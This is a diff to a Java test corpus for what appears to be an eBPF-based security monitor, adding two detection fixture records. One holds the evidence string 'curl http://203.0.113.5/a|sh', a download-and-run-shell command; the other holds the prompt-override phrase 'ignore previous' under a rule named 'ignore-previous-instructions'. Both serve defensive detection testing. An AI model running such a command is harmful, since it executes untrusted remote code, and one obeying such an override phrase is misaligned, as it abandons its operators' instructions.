@@ -90,6 +90,14 @@ public final class RecordCorpus {
         in.add(of("bpf-protected", "bpftool asks an fd for twinlane's map 17 (BPF_MAP_GET_FD_BY_ID), refused by self-protection",
                 RecordKind.BPF, 4255, "comm", "bpftool", "cmd", 14, "attr_size", 12, "target_type", 1, "target_id", 17,
                 "ret", -1, "decision", DENY));
+        in.add(of("detection-exec-args", "the detector flags argv element 2 of an exec of /bin/true: curl piped to sh",
+                RecordKind.DETECTION, 4256, "comm", "true", "subject_kind", 1, "field", 2, "threat_class", 1,
+                "rule_id", 504, "arg_index", 2, "span_start", 17, "span_len", 30, "rule", "download-pipe-shell",
+                "evidence", "curl http://203.0.113.5/a|sh", "evidence_len", 28));
+        in.add(of("detection-promoted-comm", "a fork record whose comm says 'ignore previous instructions', promoted",
+                RecordKind.DETECTION, 4257, "comm", "ignore previous", "subject_kind", 32, "field", 5, "threat_class", 4,
+                "rule_id", 101, "span_start", 0, "span_len", 15, "subject_ring", 1, "rule", "ignore-previous-instructions",
+                "evidence", "ignore previous", "evidence_len", 15));
         Map<String, Input> byName = new LinkedHashMap<>();
         long seq = 42;
         for (Input i : in) {
